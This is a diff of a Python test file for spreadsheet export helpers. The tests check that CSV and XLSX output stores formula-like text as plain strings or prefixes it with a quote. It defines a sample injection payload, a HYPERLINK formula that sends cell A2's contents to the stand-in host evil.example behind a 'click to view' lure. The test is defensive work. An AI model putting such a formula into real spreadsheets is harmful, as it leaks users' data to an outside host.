@@ -3,9 +3,9 @@
 import io
 
 import pytest
-from openpyxl import Workbook, load_workbook
+from openpyxl import load_workbook
 
-from governance.kernel.spreadsheets import csv_cell, xlsx_cell
+from governance.kernel.spreadsheets import XlsxBook, csv_cell, csv_stream
 
 EVIL = '=HYPERLINK("http://evil.example/x?"&A2,"点击查看")'
 
@@ -41,10 +41,18 @@ def test_csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote(value, writt
 
 
 def test_xlsx_text_is_a_string_cell_never_a_formula():
-    workbook = Workbook(write_only=True)
-    sheet = workbook.create_sheet("t")
-    sheet.append([xlsx_cell(sheet, EVIL), xlsx_cell(sheet, "-2+3"), xlsx_cell(sheet, 42), xlsx_cell(sheet, None)])
     out = io.BytesIO()
-    workbook.save(out)
-    cells = list(load_workbook(io.BytesIO(out.getvalue()))["t"].iter_rows())[0]
-    assert [(c.value, c.data_type) for c in cells] == [(EVIL, "s"), ("-2+3", "s"), (42, "n")]
+    book = XlsxBook(out)
+    sheet = book.sheet("t", title_line=None, header=["a", "b", "c", "d"], widths=[10] * 4,
+                       number_formats=[None, "@", "0", None])
+    sheet.append([EVIL, "-2+3", 42, None])
+    book.close()
+    cells = list(load_workbook(io.BytesIO(out.getvalue()))["t"].iter_rows())[1]
+    assert [(c.value, c.data_type) for c in cells[:3]] == [(EVIL, "s"), ("-2+3", "s"), (42, "n")]
+    assert cells[1].number_format == "@" and cells[3].value is None
+
+
+def test_the_csv_stream_has_one_bom_and_quotes_formulas():
+    raw = b"".join(csv_stream([["a", "b"], None, [EVIL, -3]], batch=1))
+    assert raw.decode("utf-8") == '\ufeffa,b\r\n\r\n"\'=HYPERLINK(""http://evil.example/x?""&A2,""点击查看"")",-3\r\n'
+    assert b"".join(csv_stream([["x"]], bom=False)) == b"x\r\n"
